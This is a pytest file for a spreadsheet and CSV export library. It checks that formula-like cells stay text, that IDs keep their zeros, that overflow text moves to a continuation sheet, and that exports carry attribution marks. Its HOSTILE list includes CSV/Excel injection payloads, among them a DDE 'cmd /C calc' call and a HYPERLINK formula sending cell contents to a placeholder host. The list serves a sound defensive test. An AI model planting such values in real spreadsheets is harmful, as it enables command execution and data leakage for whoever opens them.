"""What leaves as a list: text stays text, nothing computes, nothing is cut, and it says whose."""

import csv
import zipfile
from datetime import date
from io import BytesIO, StringIO

import openpyxl
import pytest

from bureau import tables
from bureau.tables import LONGEST_CELL, Share, Table, parts_of, write_text, write_workbook

HOSTILE = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1",
    "　=1",
    "\xa0=1",
    '"=1',
    "'=1",
    "\n=1",
    "\r\n=1",
    " \n'\"=1",
    "\ufeff=1",
    "\u200b=1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://x/?"&A1,"张三")',
    "@=1",
]


def workbook(*rows, title="名单", headings=("甲", "乙"), **options):
    return write_workbook([Table(title, headings, rows)], **options)


def opened(written):
    return openpyxl.load_workbook(BytesIO(written.content))


def lines_of(written):
    text = written.content.decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_begins_like_a_formula_stays_text_in_a_workbook(text):
    sheet = opened(workbook([text, "x"])).active

    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value.replace("_x000D_", "\r").replace("\r\n", "\n") == text.replace("\r\n", "\n")
    assert cell.quotePrefix


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe_in_a_text_file(text):
    assert lines_of(write_text(Table("", ["甲"], [[text]])))[1] == [f"'{text}"]


def test_an_id_keeps_all_its_digits_and_zeros():
    written = workbook(["110105199003070012", "007"])

    cells = opened(written).active[2]
    assert [cell.value for cell in cells] == ["110105199003070012", "007"]
    assert {cell.number_format for cell in cells} == {"@"}
    [_head, row] = lines_of(write_text(Table("", ["甲", "乙"], [["110105199003070012", "007"]])))
    assert row == ["'110105199003070012", "'007"]


def test_days_are_days_and_every_column_can_be_narrowed():
    sheet = opened(workbook([date(2026, 11, 22), date(1899, 12, 31)])).active

    cell = sheet["A2"]
    assert (cell.is_date, cell.number_format) == (True, "yyyy-mm-dd")
    assert (cell.value.date(), sheet["B2"].value) == (date(2026, 11, 22), "1899-12-31")
    assert sheet.auto_filter.ref == "A1:B2"


def test_numbers_are_numbers_and_shares_are_percentages():
    row = opened(workbook([3, Share(0.857)])).active[2]

    assert [cell.value for cell in row] == [3, 0.857]
    assert row[1].number_format == "0.0%"
    assert lines_of(write_text(Table("", ["甲", "乙"], [[3, Share(0.857)]])))[1] == ["3", "85.7%"]


@pytest.mark.parametrize("sign", ["\x00", "\x08", "\x0b", "\x1f", "\x7f", "\ufffe", "\ud800"])
def test_what_no_file_may_hold_is_replaced_not_dropped(sign):
    assert opened(workbook([f"张{sign}三", ""])).active["A2"].value == "张\ufffd三"
    assert lines_of(write_text(Table("", ["甲"], [[f"张{sign}三"]])))[1] == ["张\ufffd三"]


@pytest.mark.parametrize("sign", ["长", "a", "\U00020000"])
def test_a_text_too_long_for_a_cell_goes_on_in_a_sheet_of_its_own(sign):
    text = sign * (LONGEST_CELL * 2 + 5)

    book = opened(workbook(["x", text]))

    assert book.sheetnames == ["名单", "续文"]
    first = book["名单"]["B2"].value
    rests = [row[2].value for row in book["续文"].iter_rows(min_row=2)]
    assert "续文" in first
    assert len(first.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert first.partition("…〔未完")[0] + "".join(rests) == text
    assert {row[0].value for row in book["续文"].iter_rows(min_row=2)} == {"名单!B2"}


def test_a_text_that_just_fits_is_left_alone():
    assert parts_of("长" * LONGEST_CELL) == ["长" * LONGEST_CELL]
    assert len(parts_of("长" * (LONGEST_CELL + 1))) == 2


@pytest.mark.parametrize(
    ("given", "made"),
    [
        (["a/b:c?*[d]"], ["a b c   d"]),
        (["'引号'"], ["引号"]),
        ([""], ["表"]),
        (["History"], ["History (2)"]),
        (["长" * 40, "长" * 40], ["长" * 31, "长" * 27 + " (2)"]),
        (["Abc", "aBC"], ["Abc", "aBC (2)"]),
    ],
)
def test_titles_of_sheets_are_made_harmless_and_unique(given, made):
    written = write_workbook([Table(title, ["甲"], []) for title in given])

    assert opened(written).sheetnames == made


def test_a_file_says_who_took_it_out_and_how_many_rows_it_holds():
    marks = {"mark": "导出人:李敏 2026-11-21 10:03 批次 7K3M", "batch": "7K3M"}
    rows = [["a", "b"], ["c", "d"]]

    written = workbook(*rows, closing=lambda n: f"共{n}行", **marks)

    book = opened(written)
    assert written.rows == 2
    assert [row[0].value for row in book.active.iter_rows()] == [
        marks["mark"],
        "甲",
        "a",
        "c",
        "共2行",
    ]
    assert book.properties.subject == "7K3M"
    assert marks["mark"] in book.active.oddFooter.left.text
    text = write_text(
        Table("", ["甲", "乙"], rows), mark=marks["mark"], closing=lambda n: f"共{n}行"
    )
    assert [line[0] for line in lines_of(text)[-2:]] == ["共2行", marks["mark"]]


def test_rows_under_way_never_touch_the_disk(monkeypatch):
    seen = []

    def rows():
        seen.extend(tables.RAM_DISK.iterdir())
        yield ["张三", "x"]

    written = write_workbook([Table("名单", ["甲", "乙"], rows())])

    assert any(path.is_file() for path in seen)
    assert (
        "张三"
        in zipfile.ZipFile(BytesIO(written.content)).read("xl/worksheets/sheet1.xml").decode()
    )
    assert tables._out_of_disk() == str(tables.RAM_DISK)
